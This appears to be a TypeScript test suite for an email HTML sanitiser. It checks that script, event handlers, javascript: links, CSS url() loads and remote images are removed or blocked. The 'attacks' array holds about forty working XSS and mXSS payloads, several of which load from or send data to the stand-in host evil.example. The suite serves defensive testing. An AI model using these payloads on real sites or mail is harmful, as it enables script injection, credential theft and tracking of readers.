import fc from 'fast-check';
import sanitizeHtml from 'sanitize-html';
import { describe, expect, it } from 'vitest';
import { type HtmlJob } from './html-job.js';
import { sanitise } from './sanitise.js';

const safe = (html: string, job: Partial<HtmlJob> = {}) =>
  sanitise({ html, remoteImages: 'blocked', inlineImages: new Map(), ...job }, sanitizeHtml);

/** Every tag of a text with its attributes. */
function tagsOf(html: string): { name: string; attributes: Record<string, string> }[] {
  const tags: { name: string; attributes: Record<string, string> }[] = [];
  const onOpenTag = (name: string, attributes: Record<string, string>) =>
    tags.push({ name, attributes: { ...attributes } });
  sanitizeHtml(html, { allowedTags: false, allowedAttributes: false, allowVulnerableTags: true, onOpenTag });
  return tags;
}

/** What must not stand in HTML that is shown, whatever it was made of. */
function expectHarmless(html: string): void {
  for (const { name, attributes } of tagsOf(html)) {
    expect(name).not.toMatch(/^(?:script|style|iframe|frame|object|embed|form|input|button|svg|math|meta|link|base)$/);
    for (const [attribute, value] of Object.entries(attributes)) {
      expect(attribute).not.toMatch(/^on|^(?:id|name|class|srcset|background|formaction|action|xlink:href|srcdoc)$/);
      if (attribute === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:)/i);
      if (attribute === 'src') expect(value).toMatch(/^\/messages\//);
      if (attribute === 'style') expect(value).not.toMatch(/url|image|expression|@|\\|position|behavior|attr\(|var\(/i);
    }
  }
}

const attacks = [
  '<script>steal()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=steal()>',
  '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=">',
  '<svg onload=steal()><script>steal()</script></svg>',
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  '<a href="javascript:steal()">x</a>',
  '<a href=" jav\tascript:steal()">x</a>',
  '<a href="&#106;avascript&colon;steal()">x</a>',
  '<a href="\u0001javascript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<a href="vbscript:steal()">x</a>',
  '<a href="//evil.example/">x</a><a href="/settings">y</a><a href="#top">z</a>',
  '<form action=https://evil.example><input name=password><button formaction=javascript:steal()>Go</button></form>',
  '<iframe src=https://evil.example></iframe><iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data=x.swf></object><embed src=x.swf><applet code=x></applet>',
  '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/p)}</style>',
  '<p style="background:url(https://evil.example/p)">x</p>',
  '<p style="background-image:u\\72l(https://evil.example/p);color:red">x</p>',
  '<p style="width:expression(steal());behavior:url(x.htc);-moz-binding:url(x)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</p>',
  '<p style="color:red/*}*/;background:image-set(\'https://evil.example/p\' 1x)">x</p>',
  '<p style="list-style:url(https://evil.example/p)">x</p>',
  '<table background=https://evil.example/p><td background=https://evil.example/p>x</td></table>',
  '<video poster=https://evil.example/p src=https://evil.example/v autoplay></video><audio src=x></audio>',
  '<picture><source srcset=https://evil.example/p><img srcset="https://evil.example/p 2x"></picture>',
  '<input type=image src=https://evil.example/p>',
  '<textarea><img src=x onerror=steal()></textarea><title><img src=x onerror=steal()></title>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  '<xmp><img src=x onerror=steal()></xmp><plaintext><img src=x onerror=steal()>',
  '<template><img src=x onerror=steal()></template><select><option><img src=x onerror=steal()></select>',
  '<!--[if mso]><script>steal()</script><![endif]--><!--><img src=x onerror=steal()>-->',
  '<p title="&quot;&gt;&lt;img src=x onerror=steal()&gt;">x</p>',
  '<img """><script>steal()</script>">',
  '<<script>steal();//<</script>',
  '<p/onclick=steal()/style=color:red>x',
  '<a href="https://ok.example" onclick="steal()" ping="https://evil.example" download>x</a>',
];

describe('HTML that is shown', () => {
  it.each(attacks)('R43 runs nothing and fetches nothing: %s', (attack) => {
    const { html } = safe(`<p>Before</p>${attack}`);
    expectHarmless(html);
    expect(html).toContain('Before');
    expect(html).not.toMatch(/steal\(\)[^&]*<\/script|evil\.example\/x/);
  });

  it('R43 runs nothing and fetches nothing, however attacks are cut and joined', () => {
    const piece = fc.tuple(fc.constantFrom(...attacks), fc.nat(200), fc.nat(200));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const { html } = safe(pieces.map(([attack, from, length]) => attack.slice(from % 20, from + length)).join(''));
        expectHarmless(html);
        // Nothing more is found in it the second time.
        expectHarmless(safe(html).html);
      }),
      { numRuns: 300 },
    );
  });

  it('looks as its writer made it', () => {
    const mail =
      '<table width="600" cellpadding="0" bgcolor="#ffffff"><tr><td align="center" style="padding:8px 0;color:#333;' +
      "font-family:'Helvetica Neue',Arial;background:rgb(1, 2, 3)\"><h1>Your order</h1><b>1 × Café</b><br /></td></tr></table>";
    expect(safe(`<html><head><title>Mail</title><style>p{}</style></head><body>${mail}</body></html>`).html).toBe(mail);
  });

  it('R43 links open in a window of their own, which learns nothing of the page', () => {
    expect(
      safe('<a href="https://shop.example/a?b=1&amp;c=2">x</a> <a href="mailto:ana@ct.example.com">y</a>').html,
    ).toBe(
      '<a href="https://shop.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a> ' +
        '<a href="mailto:ana@ct.example.com" target="_blank" rel="noopener noreferrer nofollow">y</a>',
    );
  });

  it('R43 pictures that lie elsewhere are counted, and fetched only where they were asked for', () => {
    const mail = '<img src="https://track.example/p?u=1" width="1" alt="A"><img src=" HTTP://shop.example/logo.png ">';
    const blocked = safe(mail);
    expect(blocked.remoteImages).toBe(2);
    expect(blocked.html).not.toMatch(/\ssrc=/);
    expect(blocked.html).toContain('data-remote-src="https://track.example/p?u=1"');
    expect(safe(mail, { remoteImages: 'shown' })).toEqual({
      html: '<img width="1" alt="A" src="https://track.example/p?u=1" /><img src="HTTP://shop.example/logo.png" />',
      remoteImages: 2,
    });
  });

  it('shows the pictures that came with the message, by their content id', () => {
    const inlineImages = new Map([['logo+1@shop', '/messages/m-1/attachments/1.2']]);
    const { html, remoteImages } = safe('<img src="CID:logo%2B1@shop"><img src="cid:other"><img src="cid:%">', {
      inlineImages,
    });
    expect(html).toBe('<img src="/messages/m-1/attachments/1.2" /><img /><img />');
    expect(remoteImages).toBe(0);
  });
});
